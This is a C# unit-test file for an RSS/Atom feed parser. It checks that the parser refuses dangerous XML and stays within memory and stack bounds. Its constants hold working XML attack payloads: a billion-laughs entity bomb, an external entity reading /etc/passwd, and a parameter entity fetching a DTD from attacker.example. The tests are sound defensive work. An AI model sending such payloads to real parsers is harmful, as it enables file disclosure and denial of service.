using System.Text;
using Alerts.Feeds;

namespace Alerts.Tests.Feeds;

public class SafetyTests
{
    private const string BillionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE rss [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>
        """;

    private const string ExternalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
        <rss version="2.0"><channel><title>Leak</title><item><title>&secret;</title></item></channel></rss>
        """;

    private const string ParameterEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE feed [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
        <feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>
        """;

    [Theory]
    [InlineData(BillionLaughs)]
    [InlineData(ExternalEntity)]
    [InlineData(ParameterEntity)]
    public void Entity_declarations_are_refused_with_bounded_memory(string xml)
    {
        var bytes = Encoding.UTF8.GetBytes(xml);
        var before = GC.GetAllocatedBytesForCurrentThread();

        var error = Assert.Throws<FeedParseException>(() => new FeedParser().Parse(bytes));

        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        Assert.Contains("refused", error.Message, StringComparison.Ordinal);
        Assert.True(allocated < 1_000_000, $"allocated {allocated} bytes while refusing");
    }

    [Fact]
    public void Billion_laughs_is_refused_even_when_the_entities_are_unused_in_a_huge_document()
    {
        var bytes = Encoding.UTF8.GetBytes(BillionLaughs.Replace("&lol9;", "x", StringComparison.Ordinal) + new string(' ', 100_000));

        Assert.Throws<FeedParseException>(() => new FeedParser().Parse(bytes));
    }

    [Fact]
    public void An_external_dtd_reference_without_entities_is_ignored_not_fetched()
    {
        var feed = FeedFixtures.Parse("rss091.xml");

        Assert.Equal("rss0.91", feed.Format);
        Assert.False(feed.IllFormed);
    }

    [Fact]
    public void Absurd_nesting_is_refused_instead_of_overflowing_the_stack()
    {
        var xml = "<rss version=\"2.0\"><channel>" + string.Concat(Enumerable.Repeat("<div>", 100_000)) + "</channel></rss>";

        Assert.Throws<FeedParseException>(() => new FeedParser().Parse(Encoding.UTF8.GetBytes(xml)));
    }
}
